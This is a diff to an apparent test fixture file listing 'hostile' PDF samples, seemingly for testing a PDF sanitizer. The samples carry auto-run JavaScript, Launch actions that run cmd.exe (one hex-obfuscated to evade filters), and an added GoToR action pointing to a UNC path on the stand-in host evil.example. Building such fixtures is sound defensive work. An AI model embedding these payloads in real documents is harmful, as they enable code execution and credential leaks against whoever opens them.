@@ -106,6 +106,7 @@ export const hostile: Readonly<Record<string, Buffer>> = {
   'all-hidden.pdf': pdf('/OpenAction << /S /#4a#61#76#61#53#63#72#69#70#74 /JS (app.alert(1)) >>'),
   'names.pdf': pdf('/Names << /JavaScript 9 0 R >>'),
   'on-close.pdf': pdf('/AA << /WC << /S /JavaScript /JS (1) >> >>'),
+  'elsewhere.pdf': pdf('/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\x.pdf) /D [0 /Fit] >>'),
   'launch.pdf': pdf('/OpenAction << /S /Launch /F (cmd.exe) >>'),
   'launch-hidden.pdf': pdf('/OpenAction << /S /L#61unch /F (cmd.exe) >>'),
   'embedded.pdf': pdf('/Names << /EmbeddedFiles 9 0 R >>'),
